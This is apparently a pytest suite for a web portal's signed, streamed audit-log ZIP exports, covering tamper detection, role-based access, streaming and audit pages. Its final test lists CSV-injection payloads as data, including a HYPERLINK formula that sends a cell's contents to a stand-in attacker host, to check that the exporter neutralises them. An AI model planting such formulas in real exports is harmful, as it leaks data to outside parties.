"""Audit exports: streamed ZIPs that the standalone verifier accepts, and rejects after a single changed byte."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

from portal import services
from portal.models import AuditEvent
from tests.conftest import ROOT, assert_error_shape, clean_env

VERIFIER = ROOT / "scripts" / "verify_export.py"


def _verify(export: Path, key: Path) -> subprocess.CompletedProcess[str]:
    # Run outside the portal: a bare interpreter, no Django settings, from another directory.
    return subprocess.run([sys.executable, str(VERIFIER), str(export), "--public-key", str(key)], cwd="/",
                          env=clean_env(), capture_output=True, text=True, timeout=120)


def _rezip(source: Path, dest: Path, member: str, change: Any) -> Path:
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(dest, "w") as out:
        for info in src.infolist():
            data = src.read(info.filename)
            out.writestr(info.filename, change(data) if info.filename == member else data)
    return dest


@pytest.fixture
def trail(personas: dict[str, Any]) -> None:
    for i in range(30):
        services.token_create(user=personas["ds"], name=f"tøken «{i}»\n\"quoted\", comma", actor=personas["ds"])


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
@pytest.mark.parametrize("built_by", ["postgresql", "python"])
def test_an_export_verifies_offline_and_fails_after_one_changed_byte(
        transactional_db: None, trail: None, personas: dict[str, Any], api_as: Any, tmp_path: Path, fmt: str,
        built_by: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # Committed rows (transactional_db): PostgreSQL's COPY runs on a connection of its own, as in production.
    if built_by == "python":  # the path SQLite (the embedded mode) takes
        from portal.audit import export as audit_export

        monkeypatch.setattr(audit_export, "_pg_lines", audit_export._python_lines)
    client = api_as(personas["compliance"])
    response = client.get("/api/v1/audit/export", {"format": fmt})
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    assert response.streaming and "attachment" in response["Content-Disposition"]
    export = tmp_path / "export.zip"
    export.write_bytes(b"".join(response.streaming_content))
    key = tmp_path / "key.pem"
    key.write_bytes(client.get("/api/v1/audit/public-key").content)
    assert key.read_bytes().startswith(b"-----BEGIN PUBLIC KEY-----")

    result = _verify(export, key)
    assert result.returncode == 0, result.stdout + result.stderr
    with zipfile.ZipFile(export) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        events = archive.read(f"audit-events.{fmt}")
    exported = AuditEvent.objects.filter(seq__lte=manifest["chain_head"]["seq"]).count()
    assert manifest["count"] == exported >= 31 and f"OK: {exported} events" in result.stdout
    assert manifest["exported_by"] == "casey" and "tøken «29»".encode() in events

    target = f"audit-events.{fmt}"
    index = events.index("tøken «7»".encode()) + 1
    flipped = _rezip(export, tmp_path / "flipped.zip", target,
                     lambda data: data[:index] + bytes([data[index] ^ 0x01]) + data[index + 1:])
    result = _verify(flipped, key)
    assert result.returncode == 1 and "SHA-256" in result.stdout, result.stdout
    # Even with the manifest's file hash "fixed up", the signature no longer holds.
    forged = _rezip(export, tmp_path / "forged.zip", "manifest.json",
                    lambda data: data.replace(b'"count": ', b'"count": 1'))
    result = _verify(forged, key)
    assert result.returncode == 1 and "signature" in result.stdout
    corrupt = tmp_path / "corrupt.zip"
    raw = bytearray(export.read_bytes())
    raw[len(raw) // 3] ^= 0xFF
    corrupt.write_bytes(bytes(raw))
    assert _verify(corrupt, key).returncode == 1
    other_key = tmp_path / "other.pem"
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    other_key.write_bytes(Ed25519PrivateKey.generate().public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
    assert _verify(export, other_key).returncode == 1


def test_a_filtered_export_verifies_and_the_export_is_itself_audited(
        transactional_db: None, trail: None, personas: dict[str, Any], api_as: Any, tmp_path: Path) -> None:
    client = api_as(personas["admin"])
    response = client.get("/api/v1/audit/export", {"format": "csv", "action": "token.create", "actor": "dana"})
    export = tmp_path / "export.zip"
    export.write_bytes(b"".join(response.streaming_content))
    key = tmp_path / "key.pem"
    key.write_bytes(client.get("/api/v1/audit/public-key").content)
    assert _verify(export, key).returncode == 0
    with zipfile.ZipFile(export) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        rows = archive.read("audit-events.csv").decode().splitlines()
    assert manifest["count"] == 30 and len(rows) >= 31
    assert manifest["filters"] == {"action": "token.create", "actor": "dana"}
    event = AuditEvent.objects.filter(action="audit.export").latest("seq")
    assert event.actor_username == "ada" and event.metadata["format"] == "csv"


@pytest.mark.parametrize("persona,expected", [("ds", 403), ("approver1", 403), ("viewer", 403), ("outsider", 403),
                                              ("compliance", 200), ("admin", 200), (None, 401)])
def test_export_access_per_role(personas: dict[str, Any], api_as: Any, persona: str | None, expected: int) -> None:
    client = api_as(personas[persona] if persona else None)
    response = client.get("/api/v1/audit/export", {"format": "jsonl"})
    assert response.status_code == expected
    key = client.get("/api/v1/audit/public-key")  # view_audit: the same roles here
    assert key.status_code == expected
    if expected != 200:
        assert_error_shape(response, expected)
        assert not AuditEvent.objects.filter(action="audit.export").exists()


def test_bad_export_parameters_get_400(personas: dict[str, Any], api_as: Any) -> None:
    client = api_as(personas["compliance"])
    assert_error_shape(client.get("/api/v1/audit/export", {"format": "xml"}), 400)
    assert_error_shape(client.get("/api/v1/audit/export", {"from": "last tuesday"}), 400)
    assert not AuditEvent.objects.filter(action="audit.export").exists()


def test_the_export_streams_in_pieces(personas: dict[str, Any], api_as: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from portal.audit import export as audit_export
    from portal.audit.actions import AuditAction
    from portal.audit.record import audit_record

    for i in range(200):
        audit_record(AuditAction.AUDIT_VERIFY, actor=personas["ds"], metadata={"n": i, "noise": os.urandom(400).hex()})
    monkeypatch.setattr(audit_export, "FLUSH_BYTES", 4096)
    monkeypatch.setattr(audit_export, "BATCH_ROWS", 20)
    response = api_as(personas["compliance"]).get("/api/v1/audit/export", {"format": "jsonl"})
    pieces = list(response.streaming_content)
    assert len(pieces) > 3, "the ZIP is sent as it is written, not built in memory first"
    assert zipfile.ZipFile(io.BytesIO(b"".join(pieces))).testzip() is None


def test_the_audit_page_offers_the_export_of_its_filter_and_the_public_key(
        trail: None, personas: dict[str, Any], api_as: Any) -> None:
    from django.test import Client

    client = Client()
    client.force_login(personas["compliance"])
    page = client.get("/audit/", {"action": "token.create", "since": "2020-01-01T00:00"})
    content = page.content.decode()
    assert page.status_code == 200 and 'data-testid="export"' in content
    assert "/api/v1/audit/export?format=csv&amp;action=token.create&amp;from=2020-01-01T00%3A00%3A00" in content
    assert "BEGIN PUBLIC KEY" in content
    ds = Client()
    ds.force_login(personas["ds"])
    assert ds.get("/audit/").status_code == 403
    export = client.get("/api/v1/audit/export?format=csv&action=token.create&from=2020-01-01T00%3A00%3A00%2B00%3A00")
    assert export.status_code == 200


def test_event_detail_shows_the_diff_and_links_to_timelines(trail: None, personas: dict[str, Any]) -> None:
    from django.test import Client

    from portal.audit.actions import AuditAction
    from portal.audit.record import Target, audit_record

    event = audit_record(AuditAction.ADMIN_CHANGE, actor=personas["admin"],
                         target=Target("registeredmodel", "churn", "churn", "acme"),
                         before={"description": "old", "tags": ["a"]}, after={"description": "new", "tags": ["a"]})
    client = Client()
    client.force_login(personas["compliance"])
    listing = client.get("/audit/").content.decode()
    assert f'href="/audit/events/{event.seq}/"' in listing and 'data-testid="activity-chart"' in listing
    assert '"admin": [' in listing and ', 30]' in listing  # 31 days, today's bar last
    page = client.get(f"/audit/events/{event.seq}/").content.decode()
    assert "description <strong>changed</strong>" in page and "<code>old</code>" in page and "<code>new</code>" in page
    assert "tags <strong>changed</strong>" not in page
    assert "/audit/?target=registeredmodel:churn" in page and "/audit/?actor=ada" in page
    assert client.get("/audit/events/999999/").status_code == 404
    ds = Client()
    ds.force_login(personas["ds"])
    assert ds.get(f"/audit/events/{event.seq}/").status_code == 403


FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A2,"Click")', "@SUM(1+1)", "+1+2", "-2+3", "\tTAB", "\rCR", "'quoted", "a\rb")


@pytest.mark.parametrize("built_by", ["postgresql", "python"])
def test_formula_cells_are_neutralised_in_csv_exports_and_the_export_still_verifies(
        transactional_db: None, personas: dict[str, Any], api_as: Any, tmp_path: Path, built_by: str,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """OWASP's CSV injection: an audited request's User-Agent and a name a user chose, opened in a spreadsheet."""
    import csv

    from portal import context
    from portal.audit import export as audit_export
    from portal.audit.actions import AuditAction
    from portal.audit.record import Target, audit_record

    if built_by == "python":
        monkeypatch.setattr(audit_export, "_pg_lines", audit_export._python_lines)
    for text in FORMULAS:
        with context.bound(context.RequestContext(request_id="formula", ip="127.0.0.1", user_agent=text)):
            audit_record(AuditAction.MODEL_REGISTER, actor=personas["ds"], target=Target("registeredmodel", text, text),
                         after={"description": text})
    client = api_as(personas["compliance"])
    response = client.get("/api/v1/audit/export", {"format": "csv", "request_id": "formula"})
    export = tmp_path / "export.zip"
    export.write_bytes(b"".join(response.streaming_content))
    with zipfile.ZipFile(export) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        rows = list(csv.DictReader(io.StringIO(archive.read("audit-events.csv").decode(), newline="")))
    assert len(rows) == len(FORMULAS) and "csv_escape" in manifest
    for row, text in zip(rows, FORMULAS, strict=True):
        for column in ("user_agent", "target_id", "target_repr"):
            assert row[column] == (text if text == "a\rb" else "'" + text), (column, row[column])
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
    key = tmp_path / "key.pem"
    key.write_bytes(client.get("/api/v1/audit/public-key").content)
    result = _verify(export, key)
    assert result.returncode == 0, result.stdout + result.stderr
    assert AuditEvent.objects.get(seq=int(rows[0]["seq"])).user_agent == FORMULAS[0], "the stored value is unchanged"
